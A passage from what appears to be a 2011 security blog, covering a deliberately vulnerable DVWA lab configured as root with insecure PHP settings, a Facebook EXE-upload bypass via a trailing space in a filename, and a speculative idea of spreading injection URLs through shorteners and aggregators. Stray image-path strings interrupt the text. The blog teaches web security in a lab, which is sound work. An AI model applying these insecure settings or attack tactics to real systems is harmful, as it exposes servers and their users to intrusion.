I will be using root for this exercise. Iwant to make the application as vulnerable as possible and running as root will increase our chances for exploitation.

[root@localhost current_dir]# mv dvwa /var/www/html

Next, we need to issue the following command:

setsebool -P httpd_read_user_content 1

Now, in the web browser, navigate to your site's address / dvwa. You'll see the following error:
Click the link to setup your database. Click the "Create/Reset Database" button. If it was successful, you should see:

If you search in your mySQL database via command line or phpMyAdmin, you should now see a "dvwa" database.

Logging In
If you return to /dvwa in your browser, you'll be presented with a login screen. The default login is:
Username: admin
Password: password

Finishing Up
Now that DVWA is installed, we need to edit some configuration files so that it can be as insecure as possible. PHP version 5.2.6+ will prevent most mySQL injection attacks. So we need to change the configuration to allow them (most PHP websites are a version or so behind, so it is safe to assume that a majority of sites are still vulnerable, despite a newer version of PHP).

In the HTMLdirectory of /var/www, type:

vim .htaccess

Then, type the following into the file:

magic_quotes_gpc = Off
allow_url_fopen = On
allow_url_include = On

Then save and exit.

Next in the Series
Next I will be using the DVWA setup to test some common vulnerabilities such as XSS and mySQL injection. Following that, I will be installing a web application firewall in front of the application to determine how such a configuration can help protect against exploitation.

Working with Web Vulnerabilities and Web Application Firewalls [Part 2 - Test Environment]

[Note: this is part two of a multi-part series of posts detailing my experiences with securing web applications, creating test environments for practicing and installing and operating a web application firewall. Web security is an extremely important part of IT security since almost every major organization has a "web face." I will be exploring XSS, mySQL injection, and the use of web application firewalls to protect against these attacks.]

In this post, I will be discussing the test environment I am using to learn more about web security. I will only be discussing the most basic layers here, as the more advanced programs and the firewallitself will be discussed in an upcoming post.

Operating Systems
I am going to be using two operating systems during this learning experience. The first will be the operating system that is running my environment, the second will be a system that I use to attack it, simulating a remote attack. Before we begin, I encourage you to learn more about virtualization if you haven't done so already. All of my testing will be occurring in VMWare Workstation, an excellent product that is perfect for these situations. Virtual Box will work well also.

For the host operating system, I will be using Fedora 15, a Linux distribution. The attacking system will be Backtrack 5, a Ubuntu-based penetration testing distribution that has a number of pre-installed scripts and frameworks perfect for exploitation. Setting these systems up and connecting them within a virtual environment are a bit beyond the scope of this series / tutorials. However, the web is full of step-by-step guides to installing these systems and connecting them via a virtual network.

The Services
One extremely common set of services used to host websites is called LAMP. It stands for Linux (the operating system), Apache (the web server technology), mySQL (the database) and PHP (the web language used to code the pages and interact with the database and web application).

Beginning with Apache, we need to install our services onto the Fedora box. Luckily, installing them is extremely simple in Linux via the command-line. In lieu of retyping every step here, I am going to link to an excellent tutorial:

Remember that this series is going to befocusing on web applicationsecurity. Whenever you install a web server, database, or web environment on a box and place it onto the public network, there are many security precautions that need to be taken at the OS level. That is beyond our scope right now. However, I caution you to read more about secure Apache and database configurations before running any public-facing website.

The Data
It's no fun exploiting web applications if there's no data to search for in the exploit. In order to create an environment, I found a sample mySQL database known as Sakila. It is essentially several hundred rows in multiple tables of random, sample data. The sample uses a number of mySQL features and is perfect for establishing a test environment.

Sakila can be downloaded here. Download the TGZ next to "sakila database." Save and untar the download inside of your Fedora box.

Installing Sakila is very simple, and luckily, the webpage has a step-by-step guide.

At this point you should have your Fedora (or alternative) distribution installed, your LAMP stack configured, and you should be able to access the "It Works!" webpage by going to your machine's IP inside of a browser. The Sakila sample database should be installed.Next in the series I will be walking through some basic vulnerabilities and some extremely simple web pages. In a few posts,I will be talking about the use of a much better framework called "Damn Vulnerable Web App" that is essentially a purposefully insecure web application for the sole use of vulnerability testing. Later, we will be installing a web application firewall in front of the application and observing how it protects against our attacks.

Saturday, October 29, 2011

Working with Web Vulnerabilities and Web Application Firewalls [Part 1 - Background]

[Note: this is part one of a multi-part series of posts detailing my experiences with securing web applications, creating test environments for practicing and installing and operating a web application firewall. Web security is an extremely important part of IT security since almost every major organization has a "web face." I will be exploring XSS, mySQL injection, and the use of web application firewalls to protect against these attacks.]

Web security is paramount to the security of an organization as a whole. Almost every organization, company, or network has a public-facing web site or portal for accessing content, possibly logging in to an account, or receiving data from its users. But as with any application that a company uses, web applications pose a critical risk to the infrastructure of the network. Look at almost any attack that has been launchedagainst an organization within the last few years. Chances are that those attacks either originated, or occurred entirely through a web application used by that organization.

In this series of posts, I have decided to take on the project of understanding more about web security, especially the area of web security that focuses on the direct, public-facing application (as opposed to attacking from the infrastructure side such as an Apache server). There are hundreds of guides online that talk about various areas of protecting web applications, but I wanted to describe my experiences from the absolute beginning.

To begin testing the security of web applications, we first need to understand exactly what a web application is and how it behaves. A web application is simply a program that runs through a browser-based interface. Rather than the traditional method of downloading the files needed by a program to run, the web application interacts with the user through a series of web pages and interfaces contained within the browser window. Web applications commonly use technologies such as JavaScript, HTML (and more recently, HTML5), PHP, mySQL, and others to communicate between the server hosting the application and the user using it.

Web Applications have greatly increased the availability and ease-of-use of common tasks. Think of Google Docs - it has taken a commonly used feature of computing (word processing) and moved it to a browser-based interface complete with almost all of the same functions. However, it can be run from any computer with a browser and an internet connection. The same documents can be accessed from smartphones and tablets as well, making our data practically universally available.

Besides the obvious drawback of having to have an active internet connection (which some applications arealleviating with local storage), web applications pose a number of risks - most importantly in terms of security. Unlike typical applications, which install and run from a user's computer, web applications run on the servers of the hosting organization and transfer the required data back and forth over the internet connection. Because of this, a wide array of vulnerabilities are exposed that never occurred with traditional applications. One vulnerability that keeps appearing time and time again (which I will be focusing on in this series) is the exploitation of the remote web server due to the "holes" that are made in the system by allowing web connections through an interface that allows user input.

In typical applications, bad user input (in other words, input that was not expected) could cause a program to crash, possibly force a reboot of thelocal machine, or, in some cases, allow it to be exploited (although this is much rarer). Web applications are much different because they are hosted elsewhere. When a user enters bad input, that input is being run against a remote web server, not necessarily against the local machine (with the exception of some vulnerabilities, which will be discussed later). This is a critical security issue because it can potentially allow an attacker to gain access to a remote web server.

This Series
In the upcoming posts in this series, I will be walking through the study of web application security, specifically through the use of sanitation of user input and the use of a web application firewall (both of which I will talk about much more). I will be writing this with the expectation that the readerhas familiarity with web technologies and web server experience, but perhaps not with the security of web applications themselves.  I will be walking through every step of the process that I am using to study this aspect ofsecurity because it is a major learning experience for me as well. One thing I find annoying in some tutorials is when the steps taken to arrive at a particular outcome are not explained. So more advanced readers, please bear with me as I attempt to bring everyone onto the same page.

Friday, October 28, 2011

Facebook (Appears to Have) Fixed the EXE Vulnerability

Just yesterday, security researchers at Security Pentest pointed out a vulnerability in Facebook's Message center, allowing users (with some POST-data editing) to attach EXE files to a message and send them to anyone capable of receiving messages on Facebook (almost everyone, even non-friends). EXEs have been sent via email for ages, but Facebook users are notorious for clicking links and attachments on the site, so having the extra layer of security to block EXEs is important. The full vulnerability post can be read here:

I decided to try out the vulnerability to see if it had been fixed (it's been about 24 hours since the issue was made public, but over a month since Facebook was notified). From what I've been able to tell, Facebook has now fixed the vulnerability.

Using Tamper Data (an add-on for Firefox), the POST data could be edited when submitting a file as an upload to a message. The string <filename="filename.exe"> could be changed to <filename="filename.exe "> (angle brackets added for readability). Notice the space after the file name. Apparently, Facebook was not trimming this data and the additional space was enough to allow an exe file to slip through.

However, now the vulnerability appears to havebeen fixed. Attempting the same exploit results in an error message: "Unfortunately, your attachment could not be uploaded at this time. Please try again later."

TamperData - Changing the file name in the POST header
Facebook Messaging Error

Sunday, September 25, 2011

Distributed Attacks Using URL Shorteners and News Aggregators

[Obligatory Warning: The information below is merely a speculative issue. I am not suggesting its use on anysite. It is, however, something to watch for.]

I was talking with some people in a group the otherday, and our conversation turned towards the prevalence of news aggregation sites like Reddit, Digg, and others. Stories that are submitted to those sites are seen by hundreds of people, if not thousands, often within minutes of submission. Now you're probably wondering what this has to do with security.

Think about some of the attacks that have occurred recently. They've often originated with a SQL or perhaps a persistent JavaScript injection. There are a lot of attacks that can occur entirely from the URL bar, just by injecting additional information into the URL. This is bad because anyone can 'click' a URL.

Now back to news aggregators. When you submit a link to those sites, you can chose a title, add the URL, and then it is instantly visible to many users of that site. The point of these sites is that news-worthy links and important information gets "voted" to the top and that meaningless data is sent to the bottom. However, in order to be sent to the bottom, some people will have to click and rate the submitted site. This is where we bring in the malicious URL from before. If the URL with injection code is passed through a single or multiple URL shorteners, there is no way for the user of the aggregation site to know what is behind thelink.

The entire point of this concept is to distribute a hacking attack. If an attacker is trying to attack a site through a form of injection, he or she can simply craft a ton of malicious links, submit them to these aggregation services from behind a proxy, and have some innocent user click them for him or her. It's effectively having others hack a site for them because when the site checks its logs, it'll see multiple IP addresses from users of the aggregation service.

Is this a big concern? Not really. But it's an interesting possibility that site admins and security professionals need to watch for on their own sites.

